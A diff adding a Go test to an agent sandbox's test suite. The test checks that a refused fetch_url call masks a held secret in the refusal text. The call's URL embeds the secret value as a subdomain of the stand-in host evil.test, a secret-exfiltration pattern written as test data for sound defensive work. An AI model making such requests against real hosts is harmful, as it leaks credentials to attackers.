@@ -433,3 +433,19 @@ func TestHTTPOutsideASession(t *testing.T) {
 		t.Errorf("%d sessions after a batched initialize, want 1", n)
 	}
 }
+
+// TestRefusalIsRedacted: a refusal quotes the action the agent's URL
+// made; a value the session holds is masked in it.
+func TestRefusalIsRedacted(t *testing.T) {
+	f := newFixture(t, `.{
+    .policy = .{ .allow = .{ "exec.path.sh" } },
+    .secrets = .{ .{ .name = "TOKEN", .to = "exec.path.sh" } },
+    .credentials = .{ .store = .env },
+}`, Options{})
+	cs := f.connect(t, "2025-11-25", nil)
+	// callText fails the test if the value is in the result.
+	text, isErr := callText(t, cs, &mcp.CallToolParams{Name: "fetch_url", Arguments: map[string]any{"url": "https://" + secretValue + ".evil.test/"}})
+	if !isErr || !strings.Contains(text, "[secret:TOKEN]") {
+		t.Fatalf("%v %q", isErr, text)
+	}
+}
